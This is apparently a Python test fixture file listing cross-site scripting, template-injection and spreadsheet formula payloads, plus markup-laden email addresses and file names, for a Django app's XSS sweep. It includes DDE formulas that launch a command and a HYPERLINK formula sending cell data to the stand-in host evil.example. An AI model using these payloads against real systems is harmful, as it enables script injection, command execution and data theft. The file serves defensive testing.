"""Classic cross-site scripting, template and spreadsheet formula payloads for the XSS sweep.

None contains a newline (Django's `linebreaks` filters would split it into paragraphs) or a NUL
(PostgreSQL refuses it in text).
"""

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "{{7*7}}",
    "{% debug %}${7*7}",
    "</textarea><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=&#97;lert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>",
    "[click](javascript:alert(1))",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

# Every payload at once, for long text fields (pitch, answers, comments, reasons, stories).
ALL = " | ".join(PAYLOADS)

# Payloads a spreadsheet would run as a formula when a cell starts with them.
FORMULAS = [payload for payload in PAYLOADS if payload.startswith(("=", "+", "-", "@"))]

# Email addresses Django's EmailValidator accepts that still carry markup (quoted local parts).
EMAILS = [
    '"<script>alert(1)</script>"@example.org',
    '"<svg/onload=alert(1)>"@example.org',
    "'onmouseover='alert@example.org",
]

# Upload names that survive filename_sanitise (no slash, which would cut the path).
FILE_NAMES = [
    "'><img src=x onerror=alert(1)>.pdf",
    "<svg onload=alert(1)>.pdf",
    "=HYPERLINK(1).pdf",
]
